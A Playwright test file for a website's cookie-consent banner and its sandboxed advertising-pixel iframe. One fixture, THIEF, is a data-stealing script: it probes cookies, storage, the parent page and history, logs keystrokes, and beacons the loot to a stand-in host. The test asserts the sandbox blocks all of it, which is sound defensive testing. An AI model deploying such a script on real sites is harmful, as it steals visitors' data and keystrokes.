import { COMPLETE_LANGUAGES, LANGUAGES } from "@blc/text";
import type { BrowserContext, Page } from "@playwright/test";
import { es } from "./copy.ts";
import {
  arrived,
  axeFindings,
  test as base,
  chooseLanguage,
  edges,
  expect,
  fill,
  goTo,
  hydrated,
  PIXEL_SCRIPT,
  painted,
  sendForm,
  watchShift,
} from "./site-test.ts";

/** Stands in for the provider's script: uses cookie and storage, takes its queue over, and reports views late. */
const STUB = `(() => {
  document.cookie = "_fbp=fb.1.1; Path=/";
  if (!document.cookie) window.localStorage?.setItem("_fbp", "fb.1.1");
  const calls = (window.pixelCalls = []);
  const take = (...call) => {
    calls.push(call);
    if (call[0] !== "track") return;
    const send = () => {
      new Image().src = "https://pixel.example/tr?" + new URLSearchParams({ dl: location.href, rl: document.referrer });
    };
    setTimeout(send, 100);
  };
  fbq.callMethod = take;
  for (const call of fbq.queue) take(...call);
})();`;

/** A request to the provider: for its script, or with what it was told. */
interface Asked {
  path: string;
  told: URLSearchParams;
  referrer: string | undefined;
}

/** `asked` has the requests to the provider. */
const test = base.extend<{ asked: Asked[] }>({
  baseURL: async ({ pixelSite }, use) => use(pixelSite.url),
  asked: [
    async ({ context }, use) => {
      const asked: Asked[] = [];
      await context.route("https://pixel.example/**", async (route) => {
        const { pathname: path, searchParams: told } = new URL(route.request().url());
        asked.push({ path, told, referrer: (await route.request().allHeaders()).referer });
        const isScript = path.endsWith(".js");
        return route.fulfill(
          isScript ? { contentType: "text/javascript", body: STUB } : { status: 204 },
        );
      });
      await use(asked);
    },
    { auto: true },
  ],
});

/** What the provider was told at this path, by this name. */
const toldAt = (asked: Asked[], at: string, name: string) =>
  asked.filter(({ path }) => path === at).map(({ told }) => told.get(name));
/** The pages whose views the provider was told of. */
const viewed = (asked: Asked[]) => toldAt(asked, "/tr", "dl");
/** Names of cookies and of stored values. */
async function left(page: Page, context: BrowserContext): Promise<string[]> {
  const stored = await page.evaluate(async () => [
    ...Object.keys(localStorage),
    ...Object.keys(sessionStorage),
    ...(await indexedDB.databases()).map(({ name }) => name ?? ""),
    ...(await caches.keys()),
  ]);
  const cookies = (await context.cookies()).map(({ name }) => name);
  return [...new Set([...stored, ...cookies])].sort();
}

const frames = (page: Page) => page.frames().slice(1);
const banner = (page: Page) => page.getByRole("region", { name: es.layout.consent.label });
const button = (page: Page, choice: "accept" | "reject") =>
  banner(page).getByRole("button", { name: es.layout.consent[choice] });
/** Follows a link to another page. */
async function leave(page: Page): Promise<void> {
  await page.getByRole("link", { name: es.about.menu.name, exact: true }).first().click();
  await arrived(page, /\/about$/);
}

test("accepting loads it, and the provider is told each navigation once, without query, referrer or the page", async ({
  page,
  asked,
  baseURL,
}) => {
  await page.goto("/es/contact?type=partner&gclid=ana@example.com");
  await button(page, "accept").click();
  await expect(banner(page)).toHaveCount(0);
  await expect.poll(() => viewed(asked)).toEqual([`${baseURL}/es/contact`]);
  expect(
    await frames(page)[0]?.evaluate(() => (window as never as { pixelCalls: unknown }).pixelCalls),
  ).toEqual([
    ["set", "autoConfig", false, "12345"],
    ["init", "12345"],
    ["track", "PageView"],
  ]);
  await hydrated(page);
  await fill(page);
  await sendForm(page);
  expect(new URL(page.url()).searchParams.has("sent")).toBe(true);
  await expect.poll(() => viewed(asked)).toHaveLength(2);
  await page.reload();
  await expect.poll(() => viewed(asked)).toEqual(Array(3).fill(`${baseURL}/es/contact`));
  await expect(banner(page)).toHaveCount(0);
  expect(await page.evaluate(() => "fbq" in window)).toBe(false);
  await chooseLanguage(page, "Català");
  await expect.poll(() => viewed(asked)[3]).toMatch(/\/ca\/contact$/);
  expect(frames(page)).toHaveLength(1);
  for (const { told, referrer } of asked)
    expect([told.get("rl") ?? "", referrer]).toEqual(["", undefined]);
});

/**
 * A script that steals, where the provider's would be: it tries each way out of its frame that is known, sends what it
 * got, and names the ways that were refused. Then it takes the focus, and sends each key that it hears.
 */
const THIEF = `(async () => {
  const send = (loot) => {
    new Image().src = "https://pixel.example/loot?" + new URLSearchParams({ loot: JSON.stringify(loot) });
  };
  for (const type of ["keydown", "input", "message"]) addEventListener(type, ({ key, data }) => send(["heard", key, data]), true);
  const inner = document.documentElement.appendChild(document.createElement("iframe"));
  const cookie = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");
  const asked = (request) => new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
  });
  const ways = {
    "page": () => parent.document.documentElement.outerHTML,
    "top": () => top.document.documentElement.outerHTML,
    "change of the page": () => { parent.document.title = "stolen"; },
    "globals of the page": () => Object.getOwnPropertyNames(parent).map((name) => parent[name]),
    "element of the frame": () => frameElement.ownerDocument.documentElement.outerHTML,
    "address": () => parent.location.href,
    "history": () => parent.history.state,
    "navigations": () => parent.navigation.entries().map(({ url }) => url),
    "cookies": () => cookie.get.call(document),
    "cookies of an inner frame": () => inner.contentDocument.cookie,
    "a cookie to set": () => cookie.set.call(document, "_stolen=1; Path=/"),
    "cookie store": () => cookieStore.getAll(),
    "local storage": () => ({ ...inner.contentWindow.localStorage }),
    "session storage": () => ({ ...inner.contentWindow.sessionStorage }),
    "storage of the page": () => ({ ...parent.localStorage }),
    "databases": () => asked(indexedDB.open("stolen")),
    "caches": () => caches.keys(),
    "files": () => navigator.storage.getDirectory(),
    "worker": () => navigator.serviceWorker.register("/sw.js"),
    "request": async () => (await fetch("/es/contact?type=partner", { credentials: "include" })).text(),
    "navigation of the page": () => { top.location = "https://pixel.example/elsewhere"; },
    "window": () => open("https://pixel.example/elsewhere").name,
  };
  const got = {
    address: location.href,
    base: document.baseURI,
    loaded: performance.getEntries().map(({ name }) => name),
    history: [history.state, window.navigation?.entries().map(({ url }) => url)],
    referrer: document.referrer,
    ancestors: [...(location.ancestorOrigins ?? [])],
    name: window.name,
  };
  const refused = [];
  for (const [way, go] of Object.entries(ways)) {
    try {
      got[way] = JSON.stringify(await go());
    } catch {
      refused.push(way);
    }
  }
  send({ got, refused, all: Object.keys(ways) });
  setInterval(() => {
    parent.postMessage("What is typed?", "*");
    window.focus();
  }, 300);
})();`;

test("a script of the provider's that steals gets no field, no key, no address beyond the path, and nothing that the site keeps", async ({
  page,
  context,
  asked,
  baseURL,
  expectedErrors,
}) => {
  expectedErrors.push(/Unsafe attempt|Blocked opening|Content Security Policy|refused by/);
  await context.route(PIXEL_SCRIPT, (route) =>
    route.fulfill({ contentType: "text/javascript", body: THIEF }),
  );
  await page.goto("/es/about?secret=before#secret");
  await page.evaluate(() => {
    for (const storage of [localStorage, sessionStorage]) storage.setItem("kept", "secret");
    window.name = "secret";
    history.replaceState({ kept: "secret" }, "");
  });
  await context.addCookies([{ name: "kept", value: "secret", url: baseURL ?? "" }]);
  await goTo(page, "/es/contact?type=partner&secret=now#secret");
  await page.locator("[name=email]").fill("secret@example.com");
  await button(page, "accept").click();
  const loot = () => toldAt(asked, "/loot", "loot");
  await expect.poll(loot).toHaveLength(1);
  const { got, refused, all } = JSON.parse(loot()[0] ?? "");
  expect(refused).toEqual(all);
  const own = `${baseURL}/es/contact`;
  expect(got).toEqual({
    address: own,
    base: own,
    loaded: [`${baseURL}/pixel/es/contact`, "visible", PIXEL_SCRIPT],
    history: [null, []],
    referrer: "",
    ancestors: [baseURL],
    name: "",
  });
  await page
    .locator("[name=message]")
    .pressSequentially("What a visitor writes".repeat(4), { delay: 20 });
  // It took the focus, which a hidden frame has no use for.
  await expect.poll(() => frames(page)).toEqual([]);
  expect(loot()).toHaveLength(1);
  expect(await left(page, context)).toEqual(["blc-consent", "contactForm", "kept"]);
  await arrived(page, "/es/contact?type=partner&secret=now#secret");
});

test("the frame's document, opened by a link, loads nothing of the provider's: nobody has accepted it", async ({
  page,
  asked,
  expectedErrors,
}) => {
  expectedErrors.push(/This document is for a frame/);
  await page.goto("/pixel/es/contact");
  expect(asked).toEqual([]);
});

test("nothing is asked of others or left in the browser before a choice; rejecting is as easy, and kept for a year", async ({
  page,
  context,
  asked,
  baseURL,
}) => {
  const outside: string[] = [];
  page.on("request", (request) => {
    if (new URL(request.url()).origin !== baseURL) outside.push(request.url());
  });
  await goTo(page, "/es/contact");
  const html = await (await page.goto("/"))?.text();
  expect(html).not.toMatch(/preconnect|dns-prefetch|<iframe|<noscript|pixel\.example/);
  await hydrated(page);
  await leave(page);
  const box = async (choice: "accept" | "reject") => {
    const { width, height, top } = await edges(button(page, choice));
    return { width, height, top };
  };
  expect(await box("reject")).toEqual(await box("accept"));
  expect([outside, frames(page), await left(page, context)]).toEqual([[], [], []]);
  await button(page, "reject").press("Enter");
  for (const [days, isAsked] of [
    [364.9, false],
    [365.1, true],
  ] as const) {
    await page.evaluate((ago) => {
      const choice = JSON.parse(localStorage.getItem("blc-consent") ?? "");
      const at = new Date(Date.now() - ago * 86_400_000).toISOString();
      localStorage.setItem("blc-consent", JSON.stringify({ ...choice, at }));
    }, days);
    await page.reload();
    await hydrated(page);
    await expect(banner(page)).toHaveCount(isAsked ? 1 : 0);
  }
  expect(asked).toEqual([]);
});

test("a choice can be changed from the footer", async ({ page, asked }) => {
  await page.goto("/");
  const choose = async (choice: "accept" | "reject") => {
    await page.getByRole("button", { name: es.layout.consent.settings }).click();
    await button(page, choice).click();
  };
  await choose("accept");
  await expect.poll(() => viewed(asked)).toHaveLength(1);
  await choose("reject");
  await expect.poll(() => frames(page)).toEqual([]);
  const before = asked.length;
  await leave(page);
  expect(frames(page)).toEqual([]);
  expect(asked).toHaveLength(before);
});

test("a Global Privacy Control signal is a refusal, and says so", async ({ page, asked }) => {
  await page.addInitScript(() =>
    Object.defineProperty(navigator, "globalPrivacyControl", { value: true }),
  );
  await goTo(page, "/");
  await expect(banner(page)).toHaveCount(0);
  await page.getByRole("button", { name: es.layout.consent.settings }).click();
  await expect(banner(page)).toContainText("Global Privacy Control");
  await expect(button(page, "accept")).toHaveCount(0);
  expect(asked).toEqual([]);
});

test("when the provider does not answer, there is one warning on the console and nothing else", async ({
  page,
  expectedErrors,
}) => {
  expectedErrors.push(/net::ERR|Failed to load resource/);
  const warnings: string[] = [];
  page.on("console", (message) => message.type() === "warning" && warnings.push(message.text()));
  await page.route(PIXEL_SCRIPT, (route) => route.abort());
  await page.goto("/");
  await button(page, "accept").click();
  await expect.poll(() => warnings).toEqual(["The advertising pixel could not be loaded."]);
  await leave(page);
  // One for each view.
  await expect.poll(() => warnings).toHaveLength(2);
});

test("only the frame's policy names the provider, and only where it is configured", async ({
  page,
  pixelSite,
  site,
}) => {
  const policy = async (url: string) =>
    (await page.request.get(url)).headers()["content-security-policy"] ?? "";
  const framePolicy = await policy(`${pixelSite.url}/pixel/about`);
  expect(framePolicy).toContain(`'none';script-src 'sha256-`);
  expect(framePolicy).toContain(` ${new URL(PIXEL_SCRIPT).origin};`);
  expect(framePolicy.split(";")).toContain("sandbox allow-scripts");
  expect(await policy(pixelSite.url)).toContain(";frame-src 'self';");
  for (const url of [pixelSite.url, site.url]) expect(await policy(url)).not.toMatch(/https?:/);
  expect((await page.request.get(`${site.url}/pixel/about`)).status()).toBe(404);
});

for (const [index, language] of COMPLETE_LANGUAGES.entries())
  test.describe(language, () => {
    // From the first: a screen that is resized for a page may reach it after its first paint, as a shift.
    test.use({ viewport: { width: index % 2 ? 390 : 1280, height: 900 } });

    test("the banner is accessible, without layout shift", async ({ page }) => {
      const shift = await watchShift(page);
      await page.emulateMedia({ reducedMotion: "reduce" });
      await page.goto(`/?lng=${language}`);
      await expect(page.locator("#consent button:visible")).toHaveCount(2);
      await painted(page);
      expect(await shift()).toBe(0);
      expect(await axeFindings(page, "#consent")).toEqual([]);
    });
  });

test("all that can be left is on the page about cookies, in each language, and nothing else is", async ({
  page,
  context,
  asked,
}) => {
  await goTo(page, "/es/cookies");
  await chooseLanguage(page, "English");
  await arrived(page, /\/en\/cookies$/);
  await page.locator('input[name="theme"][value="dark"]').check({ force: true });
  await goTo(page, "/en/contact");
  await page.locator("#name").fill("Ana Prueba");
  await goTo(page, "/en");
  await page.locator("[data-plan-choice=nodes]").first().selectOption("5");
  await goTo(page, "/en/search");
  await page.locator("[data-search-key] input").uncheck();
  expect(asked).toEqual([]);
  await page.locator('[data-choice="accepted"]').click();
  await expect.poll(() => viewed(asked)).toHaveLength(1);
  const names = await left(page, context);
  expect(names).toEqual([
    "blc-consent",
    "contactForm",
    "i18nextLng",
    "plan",
    "search-key",
    "theme",
  ]);
  const cookie = (await context.cookies()).find(({ name }) => name === "i18nextLng");
  const days = Math.round(((cookie?.expires ?? 0) - Date.now() / 1000) / 86_400);
  for (const language of LANGUAGES) {
    await page.goto(`/${language}/cookies`);
    const told = await page.locator("tbody th code").allTextContents();
    expect([...new Set(told)].sort(), language).toEqual(names);
    const rows = page.locator("#functional tbody tr");
    await expect(rows.first()).toContainText(`${days} `);
    await expect(page.locator("#advertising")).toContainText("pixel.example");
    const choice = page.locator("#advertising tbody tr").first();
    await expect(choice).toContainText("365");
  }
});
